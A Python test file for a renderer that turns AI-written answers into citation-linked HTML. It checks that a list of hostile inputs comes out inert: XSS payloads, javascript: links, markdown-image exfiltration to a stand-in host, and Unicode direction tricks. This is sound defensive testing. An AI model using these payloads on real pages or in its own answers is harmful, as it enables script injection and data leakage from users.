"""Answers become HTML that shows what was said and can do nothing."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from longdoc.types import Citation
from longdoc.ui.render import answer_html, inert, markdown, place

ALLOWED = {
    "p", "strong", "em", "ul", "ol", "li", "blockquote", "pre", "code", "table", "thead", "tbody", "tr", "th", "td",
    "br", "hr", "span", "a",
}  # fmt: skip

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![](https://x.test/?q=secret)",
    "![a][b]\n\n[b]: https://x.test/p.png",
    "[go](javascript:alert(1))",
    "[go](data:text/html,<script>1</script>)",
    "[ok](https://x.test/?q=secret)",
    "<https://x.test>",
    "<svg onload=alert(1)><use href='https://x.test#a'/></svg>",
    "<iframe src=https://x.test></iframe>",
    "```mermaid\ngraph TD; click A href 'https://x.test'\n```",
    "~~~html\n<b onclick=alert(1)>\n~~~",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=https://x.test/a.css>",
    "<meta http-equiv=refresh content='0;url=https://x.test'>",
    "<base href=https://x.test>",
    "<form action=https://x.test><button>x</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<div style='position:fixed;inset:0'>over everything</div>",
    "<details open ontoggle=alert(1)>",
    "<video src=https://x.test/v.mp4 autoplay>",
    "<object data=https://x.test></object>",
    "<math><mtext></mtext><script>1</script></math>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "# <img src=https://x.test>",
    "| <img src=x> | b |\n|---|---|\n| ![](https://x.test) | c |",
    "[x](#cite-0000000000000000-1)",
    "\u202e drow \u2066",
    "text\u200b\U000e0041hidden",
    "a" + "\u0301" * 400,
    "\ud800 lone",
    '"><script>alert(1)</script>',
]


class Look(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    look = Look()
    look.feed(html)
    return look.found


def assert_harmless(html: str, prefix: str = "7") -> None:
    for tag, attributes in elements(html):
        assert tag in ALLOWED, tag
        for name, value in attributes.items():
            assert name in {"class", "href", "start", "style"}, name
            if name == "href":
                assert tag == "a"
                assert str(value).startswith(f"#cite-{prefix}-")
            if name == "style":
                assert str(value).startswith("text-align:")


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_is_inert(text: str) -> None:
    html = markdown(text)
    assert_harmless(html)
    assert not [tag for tag, _ in elements(html) if tag == "a"]


@given(st.text(alphabet=st.sampled_from("<>[]()!#*_`~|-:/\"'&;= \nabhjs1\u202e"), max_size=120))
def test_any_text_is_inert(text: str) -> None:
    assert_harmless(answer_html(text, [], "7"))


def cite(quote: str, **fields: object) -> Citation:
    return Citation("d", "lease.pdf", "p. 12", 0, 9, quote, "verified", "quote", page=12, **fields)  # type: ignore[arg-type]


def test_links_end_the_sentence_they_show() -> None:
    html = answer_html(
        "The rent is 400 euros. The notice is thirty days.",
        [cite("The notice is thirty days."), cite("The rent is 400 euros.")],
        "7",
    )
    assert html.index("euros.") < html.index('href="#cite-7-2"') < html.index("The notice")
    assert html.index("days.") < html.index('href="#cite-7-1"')


def test_every_citation_has_one_link_even_when_no_sentence_shows_it() -> None:
    html = answer_html("Yes.", [cite("Something else entirely."), cite("")], "7")
    assert [a["href"] for tag, a in elements(html) if tag == "a"] == ["#cite-7-1", "#cite-7-2"]


def test_links_that_a_model_writes_are_text() -> None:
    html = answer_html("See [9](#cite-7-9).", [cite("other")], "7")
    assert [a["href"] for tag, a in elements(html) if tag == "a"] == ["#cite-7-1"]


def test_place_names_pages_in_words_and_hides_direction_marks() -> None:
    assert place(cite("x")) == "lease.pdf, page 12"
    assert "\u202e" not in place(Citation("d", "a\u202efdp.exe", "src/a.py:3", 0, 1, "x", "verified", "quote"))


def test_inert_keeps_ordinary_text() -> None:
    text = "Zażółć gęślą jaźń, 東京, مرحبا, e\u0301, tabs\tand\nlines"
    assert inert(text) == text
